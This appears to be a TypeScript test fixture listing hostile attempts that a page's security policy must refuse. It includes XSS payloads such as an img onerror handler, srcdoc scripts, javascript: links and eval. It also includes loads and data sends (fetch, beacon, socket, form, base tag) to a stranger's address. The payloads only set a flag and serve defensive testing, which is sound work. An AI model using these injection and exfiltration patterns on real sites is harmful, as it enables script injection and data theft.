/** Runs inside the page, alone: it may use nothing of this file. Throws when the page refuses. */
type Attempt = (foreign: string) => unknown;

/**
 * The ways in which hostile text could run a script, or reach the stranger at the address `foreign`.
 * A script that runs leaves `window.hostileScriptRan`. A policy must refuse every one.
 */
export const HOSTILE_ATTEMPTS: Readonly<Record<string, Attempt>> = {
  'markup by innerHTML': () => {
    document.body.innerHTML = '<img src="x" onerror="window.hostileScriptRan = true">';
  },
  'markup by insertAdjacentHTML': () => {
    document.body.insertAdjacentHTML('beforeend', '<b>hello</b>');
  },
  'markup by document.write': () => document.write('<b>hello</b>'),
  'markup by srcdoc': () => {
    const frame = document.createElement('iframe');
    frame.srcdoc = '<script>parent.hostileScriptRan = true</script>';
    document.body.append(frame);
  },
  'markup by DOMParser': () => new DOMParser().parseFromString('<b>hello</b>', 'text/html'),
  eval: () => globalThis.eval('window.hostileScriptRan = true'),
  'new Function': () => new Function('window.hostileScriptRan = true')(),
  'a timer over text': () => setTimeout('window.hostileScriptRan = true', 0),
  'an inline script': () => {
    const script = document.createElement('script');
    script.append('window.hostileScriptRan = true');
    document.body.append(script);
  },
  'an inline handler': () => {
    const button = document.createElement('button');
    button.setAttribute('onclick', 'window.hostileScriptRan = true');
    document.body.append(button);
    button.click();
  },
  'a javascript: link': () => {
    const link = document.createElement('a');
    link.href = 'javascript:window.hostileScriptRan=true;void 0';
    document.body.append(link);
    link.click();
  },
  'a javascript: frame': () => {
    const frame = document.createElement('iframe');
    frame.src = 'javascript:parent.hostileScriptRan=true';
    document.body.append(frame);
  },
  "a stranger's script": (foreign) => {
    const script = document.createElement('script');
    script.src = `${foreign}/script.js`;
    document.body.append(script);
  },
  "a stranger's module": (foreign) => {
    const script = document.createElement('script');
    script.type = 'module';
    script.append(`import '${foreign}/module.js'`);
    document.body.append(script);
  },
  "a stranger's image": (foreign) => {
    const image = document.createElement('img');
    image.src = `${foreign}/image.png`;
    document.body.append(image);
  },
  "a stranger's style sheet": (foreign) => {
    const link = document.createElement('link');
    link.rel = 'stylesheet';
    link.href = `${foreign}/style.css`;
    document.head.append(link);
  },
  "a stranger's font": (foreign) => {
    void new FontFace('hostile', `url(${foreign}/font.woff2)`).load().catch(() => undefined);
  },
  "a stranger's sound": (foreign) => void new Audio(`${foreign}/sound.mp3`).load(),
  "a stranger's frame": (foreign) => {
    const frame = document.createElement('iframe');
    frame.src = `${foreign}/frame.html`;
    document.body.append(frame);
  },
  "a stranger's object": (foreign) => {
    const object = document.createElement('object');
    object.data = `${foreign}/object.html`;
    document.body.append(object);
  },
  "a stranger's prefetch": (foreign) => {
    const link = document.createElement('link');
    link.rel = 'prefetch';
    link.href = `${foreign}/prefetch.html`;
    document.head.append(link);
  },
  'a fetch to a stranger': (foreign) => void fetch(`${foreign}/fetch`).catch(() => undefined),
  'a beacon to a stranger': (foreign) => navigator.sendBeacon(`${foreign}/beacon`, 'who'),
  'a socket to a stranger': (foreign) => new WebSocket(foreign.replace('http', 'ws')),
  'an event stream from a stranger': (foreign) => new EventSource(`${foreign}/events`),
  'a form to a stranger': (foreign) => {
    const form = document.createElement('form');
    form.action = `${foreign}/form`;
    document.body.append(form);
    form.submit();
  },
  'a form to ourselves, whose answers would stand in the address': () => {
    const form = document.createElement('form');
    form.action = '/';
    document.body.append(form);
    form.submit();
  },
  'another base for our links': (foreign) => {
    const base = document.createElement('base');
    base.href = `${foreign}/`;
    document.head.append(base);
  },
  'an inline style': () => {
    const style = document.createElement('style');
    style.textContent = 'body { display: none }';
    document.head.append(style);
  },
  'a style attribute': () => document.body.setAttribute('style', 'display: none'),
  'a worker of text': () => {
    const text = new Blob(['fetch("/")'], { type: 'text/javascript' });
    return new Worker(URL.createObjectURL(text));
  },
  'a worker of our own that was not listed': () => new Worker('/assets/other.js'),
  'a second service worker': () => {
    void navigator.serviceWorker.register('/other.js').catch(() => undefined);
  },
  'another Trusted Types policy': () => Reflect.get(window, 'trustedTypes').createPolicy('hostile'),
  'our policy a second time': () => Reflect.get(window, 'trustedTypes').createPolicy('app-url'),
};
